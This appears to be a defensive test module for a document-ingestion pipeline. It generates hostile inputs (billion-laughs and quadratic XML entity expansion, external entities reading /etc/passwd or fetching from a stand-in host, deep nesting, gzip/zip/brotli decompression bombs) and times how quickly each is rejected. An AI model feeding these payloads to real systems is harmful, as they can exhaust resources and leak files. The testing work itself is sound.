"""Which inputs unfold without end, and how soon is each refused?"""

import time
from collections.abc import Iterator
from importlib.util import find_spec

from faults.archives import http, record, zipped
from faults.tightly import gzip_of, zip_of
from sayso.ingest.inputs import taken
from sayso.ingest.source import Source
from sayso.record.event import Rejected

GIB = 1 << 30
_LOLS = '<!ENTITY l0 "lol">' + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))


def bombs(size: int = GIB) -> Iterator[tuple[str, str, bytes]]:
    """Name, ending, bytes. Those that unfold do so to `size` bytes."""
    rss = "<rss version='2.0'><channel><title>{0}</title><item><title>t</title><description>{0}</description></item></channel></rss>"
    yield (
        "billion laughs",
        ".xml",
        f"<?xml version='1.0'?><!DOCTYPE r [{_LOLS}]>{rss.format('&l9;')}".encode(),
    )
    yield (
        "quadratic blow-up",
        ".xml",
        f"<!DOCTYPE r [<!ENTITY a '{'a' * 50_000}'>]>{rss.format('&a;' * 5000)}".encode(),
    )
    yield (
        "outside entity",
        ".xml",
        f"<!DOCTYPE r [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>{rss.format('&x;')}".encode(),
    )
    yield (
        "parameter entity",
        ".xml",
        f"<!DOCTYPE r [<!ENTITY % x SYSTEM 'http://x.example/e'>%x;]>{rss.format('')}".encode(),
    )
    yield "outside DTD", ".xml", f"<!DOCTYPE rss SYSTEM 'http://x.example/e.dtd'>{rss.format('x')}".encode()
    yield "entities in UTF-16", ".xml", f"<!DOCTYPE r [<!ENTITY a 'b'>]>{rss.format('&a;')}".encode("utf-16")
    yield "deep XML", ".xml", b"<rss>" + b"<a>" * 200_000
    yield "deep JSON", ".json", b"[" * 200_000
    yield "deep JSON line", ".jsonl", b'{"a":' * 200_000
    yield "deep HTML", ".html", b"<html>" + b"<div>" * 200_000
    yield "packed WARC record", ".warc.gz", gzip_of(size)
    url = "https://x.example/"
    yield (
        "packed response",
        ".warc",
        record("response", url, http(gzip_of(size), more="Content-Encoding: gzip\r\n")),
    )
    yield (
        "deflated response",
        ".warc",
        record("response", url, http(gzip_of(size, width=15), more="Content-Encoding: deflate\r\n")),
    )
    yield "zip member", ".zip", zip_of(size)
    inner = zipped({"a.txt": b"x" * 1000})
    for _ in range(6):
        inner = zipped({"in.zip": inner})
    yield "zips in one another", ".zip", inner
    if find_spec("brotli"):
        import brotli

        body = brotli.compress(b"\0" * min(size, 64_000_000), quality=1)
        yield "brotli response", ".warc", record("response", url, http(body, more="Content-Encoding: br\r\n"))


def refusal(ending: str, data: bytes) -> tuple[str, float]:
    """The first reason, and after how many seconds the reading was through."""
    start = time.perf_counter()
    found = list(taken(Source(f"bomb{ending}", data=data)))
    took = time.perf_counter() - start
    assert found and all(isinstance(f, Rejected) for f in found), found
    return next(f.reason for f in found if isinstance(f, Rejected)), took


def run(size: int = GIB) -> dict[str, float]:
    """Seconds until each is refused: the best of three, since other programs run too."""
    return {name: min(refusal(ending, data)[1] for _ in range(3)) for name, ending, data in bombs(size)}
